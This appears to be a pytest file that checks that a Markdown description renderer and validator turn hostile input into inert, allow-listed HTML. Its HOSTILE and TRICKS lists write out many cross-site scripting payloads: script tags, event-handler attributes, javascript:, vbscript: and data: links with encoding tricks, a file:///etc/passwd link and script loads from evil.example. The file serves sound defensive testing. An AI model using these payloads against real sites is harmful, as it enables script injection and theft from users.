"""The description renderer on its own: hostile Markdown straight into render_markdown,
as if it had slipped past validation, must come out as inert, allow-listed HTML.

The output is parsed (not searched with regular expressions) so that text which merely
mentions `onclick=` or `<script>` as prose is not mistaken for markup, and markup that
hides from a simple search is not missed. The property tests (any text at all) are in
tests/build/test_richtext_properties.py.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from bs4 import BeautifulSoup
from conftest import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, assert_inert

from creative_health.richtext import (
    ALLOWED_SCHEMES,
    link_scheme,
    markdown_problems,
    render_markdown,
)

HOSTILE = [
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/relative/path)",
    "[x](relative-path)",
    "[x](#fragment)",
    "<javascript:alert(1)>",
    "<VBSCRIPT:msgbox(1)>",
    "<data:text/html,x>",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "[x][evil]\n\n[evil]: //evil.example/",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "[![x](https://evil.example/p.png)](https://example.org/)",
    '[x](https://example.org/ "title" onmouseover="alert(1)")',
    "[x](https://example.org/ 'a\" onmouseover=\"alert(1)')",
    '[x](https://example.org/" onclick="alert(1))',
    "*<img src=x onerror=alert(1)>*",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    'Tom & Jerry\'s <5 a < b 3 > 2 --> "quotes"',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="https://example.org/">ok</a><a href="javascript:alert(1)">bad</a>',
    "[x](https://example.org/\u0000javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
]

# Tricks on the check itself: each is reported, and renders as inert text.
TRICKS = [
    # Character references that decode to line breaks, to start a new block downstream.
    "Songs.&#10;&#10;[Read more](javascript:alert(1))",
    "Songs.&#13;&#10;&#13;&#10;![x](https://evil.example/pixel.png)",
    "Songs.&#x0a;&#x0a;<img src=x onerror=alert(1)>",
    "Songs.&#x0A;&#x0A;[x](https://example.org/){: onclick=alert(1) }",
    "Songs.&#X0A;&#0000010;[x](//evil.example/)",
    "Songs.&#x2028;&#x85;&#12;[x](data:text/html,x)",
    # Backslash-escaped brackets that the check reads as text.
    "\\[x\\](javascript:alert(1))",
    "\\[x](javascript:alert(1))",
    "[x\\](javascript:alert(1))",
    "!\\[x\\](https://evil.example/pixel.png)",
    "&#91;x&#93;(javascript:alert(1))",
    "&#x5B;x&#x5D;&#40;javascript:alert(1)&#41;",
    # Reference definitions and reference links.
    "[a]: javascript:alert(1)",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "[x][]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: vbscript:msgbox(1)",
    "[x][a]\n\n[a]: https://example.org/\n[a]: javascript:alert(1)",
    "![x][a]\n\n[a]: https://evil.example/pixel.png",
    "[a]:\n  javascript:alert(1)\n  'title'\n\n[x][a]",
    # Autolinks.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    "<vbscript:msgbox(1)>",
    "<file:///etc/passwd>",
    # Nested emphasis and link combinations.
    "*[x](javascript:alert(1))*",
    "**[*x*](javascript:alert(1))**",
    "[*x*](https://example.org/)[y](javascript:alert(1))",
    "[[x](javascript:alert(1))](https://example.org/)",
    "*a **b [c ![d](https://evil.example/p.png)](https://example.org/) e** f*",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "_[x](<javascript:alert(1)>)_",
    # HTML comments.
    "<!-- -->",
    "a <!-- hidden --> b",
    "<!--\n\n<script>alert(1)</script>\n\n-->",
    "<!-->[x](javascript:alert(1))",
    # Closing script tags, to break out of an inline script holding the text.
    "</script>",
    "</script><script>alert(1)</script>",
    "a </SCRIPT > b",
    "- </script>\n- <script>alert(1)</script>",
]
HOSTILE += TRICKS


class _Elements(HTMLParser):
    """Every start tag with its attributes, and every comment or declaration."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"processing instruction {data!r}")


def elements(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_only_allow_listed_inert_html(text: str) -> None:
    html = render_markdown(text)
    found = elements(html)
    assert found.other == [], html
    for tag, attrs in found.elements:
        assert tag in ALLOWED_TAGS, html
        assert set(attrs) <= ALLOWED_ATTRIBUTES, html
        assert not any(name.startswith("on") for name in attrs), html
        if "href" in attrs:
            assert link_scheme(attrs["href"]) in ALLOWED_SCHEMES, html
            assert attrs.get("rel") == "noopener noreferrer", html
        if tag == "a":
            external = link_scheme(attrs.get("href", "")) in {"http", "https"}
            assert ("ch-external" in attrs.get("class", "").split()) == external, html
        if "class" in attrs:
            assert attrs["class"] == "ch-external", html


@pytest.mark.parametrize("text", HOSTILE)
def test_the_validator_rejects_whatever_the_renderer_would_have_to_clean(text: str) -> None:
    """Defence in depth is a second line, not the first: each hostile construct that
    is not plain prose is reported by the validator too."""
    accepted = {
        'Tom & Jerry\'s <5 a < b 3 > 2 --> "quotes"',
        # "<" and ">" written as references or escapes: text, and always written "&lt;".
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\<script\\>alert(1)\\</script\\>",
        # Not links in CommonMark at all: the text is shown as typed.
        '[x](https://example.org/ "title" onmouseover="alert(1)")',
        '[x](https://example.org/" onclick="alert(1))',
        # A https link whose address holds U+FFFD (the parser's stand-in for NUL).
        "[x](https://example.org/\u0000javascript:alert(1))",
        # Not an HTML tag in CommonMark ('/' must be followed by '>'), so the Markdown
        # check lets it through; it is shown as text (browsers would parse it as a tag,
        # which is why plain-text fields use a broader pattern).
        "<svg/onload=alert(1)>",
        # A https link whose title holds quotes: the title is left out.
        "[x](https://example.org/ 'a\" onmouseover=\"alert(1)')",
    }
    if text in accepted:
        return
    assert markdown_problems(text), text


def test_links_get_rel_noopener_noreferrer_and_external_links_a_class() -> None:
    html = render_markdown(
        "[site](https://example.org/a?b=1&c=2) [plain](http://example.org/) "
        "[mail](mailto:hello@example.org) [phone](tel:+442079460001) <https://example.org/auto>"
    )
    links = [attrs for tag, attrs in elements(html).elements if tag == "a"]
    assert links == [
        {
            "href": "https://example.org/a?b=1&c=2",
            "class": "ch-external",
            "rel": "noopener noreferrer",
        },
        {"href": "http://example.org/", "class": "ch-external", "rel": "noopener noreferrer"},
        {"href": "mailto:hello@example.org", "rel": "noopener noreferrer"},
        {"href": "tel:+442079460001", "rel": "noopener noreferrer"},
        {"href": "https://example.org/auto", "class": "ch-external", "rel": "noopener noreferrer"},
    ]


def test_a_provider_supplied_class_or_rel_is_not_kept() -> None:
    html = render_markdown("[x](https://example.org/){: .evil rel=opener onclick=alert(1) }")
    assert [attrs for tag, attrs in elements(html).elements if tag == "a"] == [
        {"href": "https://example.org/", "class": "ch-external", "rel": "noopener noreferrer"}
    ]


def test_prose_with_markup_characters_is_kept_as_text() -> None:
    assert render_markdown('Tom & Jerry\'s <5 a < b 3 > 2 --> "quotes"') == (
        '<p>Tom &amp; Jerry\'s &lt;5 a &lt; b 3 &gt; 2 --&gt; "quotes"</p>'
    )


def test_each_problem_in_a_multi_line_paragraph_names_its_own_line() -> None:
    text = (
        "First line is fine.\n"
        "[bad](javascript:alert(1))\n"
        "fine again\n"
        "<b>html</b> and ![img](https://evil.example/x.png)\n"
        "\n"
        "- item\n"
        "- [bad too](vbscript:x)\n"
    )
    assert [(issue.line, issue.message.split(":")[0]) for issue in markdown_problems(text)] == [
        (2, "the link 'javascript"),
        (4, "HTML is not allowed in descriptions."),
        (4, "HTML is not allowed in descriptions."),
        (4, "an image is not allowed in descriptions."),
        (7, "the link 'vbscript"),
    ]


def _soup(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, "html.parser")


@pytest.mark.parametrize("text", TRICKS)
def test_tricks_on_the_check_are_reported_and_rendered_inert(text: str) -> None:
    assert markdown_problems(text), text
    html = render_markdown(text)
    assert_inert(html)
    assert not any(
        link_scheme(a.get("href", "")) not in {"http", "https"}
        or "evil.example" in a.get("href", "")
        for a in _soup(html).find_all("a")
    ), html
